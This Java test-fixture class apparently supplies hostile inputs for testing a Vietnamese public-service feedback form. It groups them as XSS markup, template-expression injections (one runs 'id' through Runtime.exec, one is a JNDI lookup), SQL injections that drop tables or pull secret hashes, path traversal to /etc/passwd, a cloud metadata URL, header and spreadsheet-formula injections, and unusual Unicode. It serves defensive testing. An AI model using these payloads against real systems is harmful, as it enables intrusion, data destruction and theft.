package vn.kstthc.form;

import java.text.Normalizer;
import java.util.List;
import java.util.stream.Stream;

/** What people send who mean no good, and what looks strange and is meant well. */
public final class Hostile {

  public static final List<String> MARKUP = List.of("<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
      "<svg onload=alert(1)>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<iframe src=javascript:alert(1)>",
      "<a href=\"javascript:alert(1)\">x</a>", "<math><mtext></table></math><img src onerror=alert(1)>", "<!--><script>alert(1)</script>-->",
      "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<style>*{background:url(//example.org)}</style>",
      "<meta http-equiv=refresh content=0;url=//example.org>", "<base href=//example.org>", "<form action=//example.org><input name=a>",
      "\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)", "<object data=//example.org>", "<link rel=stylesheet href=//example.org>",
      "&lt;script&gt;alert(1)&lt;/script&gt;", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "{{constructor.constructor('alert(1)')()}}",
      "<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>", "<x th:text=\"${7*7}\">", "javascript:alert(1)");

  public static final List<String> EXPRESSIONS = List.of("${7*7}", "#{7*7}", "*{7*7}", "__${7*7}__::.x", "~{frame :: page}", "@{//example.org}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://example.org/a}", "%{(#a=1)}", "<%= 7*7 %>", "[[${7*7}]]",
      "[(${7*7})]");

  public static final List<String> SQL = List.of("' or '1'='1", "'; drop table feedback_item; --", "\" or \"\"=\"", "1); delete from feedback_item; --",
      "' union select secret_hash from feedback_item --", "admin'--", "%' escape '!", "!%_", "\\'; select 1; --", "') or ('a' like '%a",
      "/* */ or 1=1", "0x27");

  public static final List<String> PLACES = List.of("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\u0000.pdf", "%2e%2e%2f%2e%2e%2f",
      "file:///etc/passwd", "http://169.254.169.254/", "C:\\con", "....//....//", "classpath:application.yaml", "redirect:/x");

  public static final List<String> HEADERS = List.of("a\r\nSet-Cookie: x=y", "a\r\nBcc: b@example.org", "a\nLocation: //example.org",
      "a%0d%0aX: y", "a\u2028b\u2029c", "a\u0085b", "=?utf-8?B?YQ==?=", "a\r\n\r\n<html>");

  public static final List<String> CELLS = List.of("=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "=HYPERLINK(\"//example.org\")",
      "\uFF1D1+1", "=1+1\r\n=2", "'=1");

  public static final List<String> CHARACTERS = List.of("a\u0000b", "a\u0007b", "a\u001Bb[31m", "a\u007Fb", "a\u009Fb", "\uFEFFa", "a\u200Db", "a\u00ADb",
      "\u202Etxt.exe", "\u2066a\u2069", "Z\u0351\u036B\u0343\u036A", "\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "\uD835\uDD38",
      "\uFFFE", "\uFFFF", "\uE000", "\uDBFF\uDFFF", "مرحبا", "שלום", "Ｆｕｌｌ", "ﬁ", "İı", "ß", "\u3000\u3000",
      Normalizer.normalize("Thủ tục hành chính rườm rà", Normalizer.Form.NFC),
      Normalizer.normalize("Thủ tục hành chính rườm rà", Normalizer.Form.NFD), "Hoà òa oà", "ĐĐđđ", "a".repeat(20_000), "ă".repeat(20_001),
      "a".repeat(200_000), "\n".repeat(1000), "a\r\n".repeat(6000), "\uD83D\uDE00".repeat(10_001));

  private Hostile() {}

  public static Stream<String> texts() {
    return Stream.of(MARKUP, EXPRESSIONS, SQL, PLACES, HEADERS, CELLS, CHARACTERS).flatMap(List::stream);
  }

  /** @return the text as it is kept: composed letters, nothing around it that cannot be seen */
  public static String kept(String text) {
    return Normalizer.normalize(text, Normalizer.Form.NFC).replaceAll("^[\\s\\p{Z}\\p{Cf}]+|[\\s\\p{Z}\\p{Cf}]+$", "");
  }

  /** @return the text as it is kept where it has one line */
  public static String keptInOneLine(String text) {
    return kept(text).replaceAll("[\\s\\p{Z}]+", " ");
  }
}
